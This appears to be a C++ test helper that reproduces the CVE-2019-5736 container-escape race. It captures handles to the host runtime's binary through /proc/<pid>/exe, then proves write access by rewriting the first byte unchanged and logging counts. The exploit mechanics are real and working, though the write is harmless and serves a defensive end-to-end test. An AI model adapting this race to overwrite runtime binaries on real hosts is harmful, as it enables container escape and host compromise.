// exe-racer: the CVE-2019-5736 attack, run as a container's PID 1 by ExeOverwriteE2ETest.
// Phase 1 (until SIGUSR1): watches the container's /proc for every process that appears
// (tries the next pids before they show, and every listed one) and opens /proc/<pid>/exe
// with O_PATH and with O_RDWR. An O_PATH handle on an executable that is not the container's
// own (not busybox, not this program) is kept: that is the runtime's binary on the host.
// Phase 2 (on SIGUSR1, sent once agentd has stopped, so ETXTBSY no longer guards agentd's
// file): reopens each kept handle through /proc/self/fd/N with O_RDWR and writes back the
// byte already at offset 0 (a proof of write access that changes nothing).
// Writes its counts to /result ("name value" lines), then exits (also after 10 minutes).
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <utility>
#include <vector>

namespace {

volatile sig_atomic_t phase2 = 0;

struct Kept {
  int fd;
  std::string name;  // readlink of the handle
};

std::map<std::string, long> counts;
std::vector<Kept> kept;
std::set<std::pair<dev_t, ino_t>> own;  // the container's own executables
std::set<std::pair<dev_t, ino_t>> keptIds;

std::string linkOf(const std::string& path) {
  char buf[512];
  ssize_t n = ::readlink(path.c_str(), buf, sizeof buf - 1);
  return n > 0 ? std::string(buf, static_cast<size_t>(n)) : "?";
}

// Writes back the byte at offset 0: succeeds only with write access to the file.
bool writeBack(int fd) {
  char byte;
  return ::pread(fd, &byte, 1, 0) == 1 && ::pwrite(fd, &byte, 1, 0) == 1;
}

void tryPid(int pid) {
  if (pid == ::getpid()) return;
  std::string exe = "/proc/" + std::to_string(pid) + "/exe";
  int path = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
  if (path < 0) {
    if (errno != ENOENT) ++counts["opath_errno_" + std::string(::strerrorname_np(errno))];
    return;
  }
  struct stat st {};
  ::fstat(path, &st);
  auto id = std::make_pair(st.st_dev, st.st_ino);
  if (own.count(id)) {
    ::close(path);
    return;
  }
  ++counts["opath_foreign"];
  int rw = ::open(exe.c_str(), O_RDWR | O_CLOEXEC);
  if (rw >= 0) {
    ++counts["rw_open_ok"];
    if (writeBack(rw)) ++counts["rw_write_ok"];
    ::close(rw);
  } else {
    ++counts["rw_errno_" + std::string(::strerrorname_np(errno))];
  }
  if (keptIds.insert(id).second && kept.size() < 64) {
    kept.push_back({path, linkOf("/proc/self/fd/" + std::to_string(path))});
  } else {
    ::close(path);
  }
}

int listProc(std::vector<int>& pids) {
  pids.clear();
  int highest = 1;
  DIR* dir = ::opendir("/proc");
  if (!dir) return highest;
  while (dirent* e = ::readdir(dir)) {
    int pid = std::atoi(e->d_name);
    if (pid <= 0) continue;
    pids.push_back(pid);
    if (pid > highest) highest = pid;
  }
  ::closedir(dir);
  return highest;
}

}  // namespace

int main() {
  signal(SIGUSR1, [](int) { phase2 = 1; });
  // Never outlives a test that lost track of it.
  signal(SIGALRM, [](int) { phase2 = 1; });
  ::alarm(600);
  for (const char* path : {"/proc/self/exe", "/bin/busybox"}) {
    struct stat st {};
    if (::stat(path, &st) == 0) own.insert({st.st_dev, st.st_ino});
  }
  std::printf("racing\n");
  std::fflush(stdout);
  std::vector<int> pids;
  int highest = listProc(pids);
  std::set<int> seen(pids.begin(), pids.end());
  for (long round = 0; !phase2; ++round) {
    // The next pids first: a process is looked at before a listing could show it.
    for (int pid = highest + 1; pid <= highest + 3; ++pid) tryPid(pid);
    if (round % 16 == 0) {
      int now = listProc(pids);
      for (int pid : pids) {
        if (seen.insert(pid).second) tryPid(pid);
      }
      if (now > highest) highest = now;
    }
    ++counts["rounds"];
  }
  for (const auto& k : kept) {
    std::string self = "/proc/self/fd/" + std::to_string(k.fd);
    int rw = ::open(self.c_str(), O_RDWR | O_CLOEXEC);
    if (rw >= 0) {
      ++counts["reopen_ok"];
      if (writeBack(rw)) ++counts["reopen_write_ok"];
      ::close(rw);
    } else {
      ++counts["reopen_errno_" + std::string(::strerrorname_np(errno))];
    }
  }
  FILE* out = std::fopen("/result.tmp", "w");
  if (!out) return 1;
  for (const auto& [name, value] : counts) std::fprintf(out, "%s %ld\n", name.c_str(), value);
  for (const auto& k : kept) std::fprintf(out, "kept %s\n", k.name.c_str());
  std::fclose(out);
  std::rename("/result.tmp", "/result");
  return 0;
}
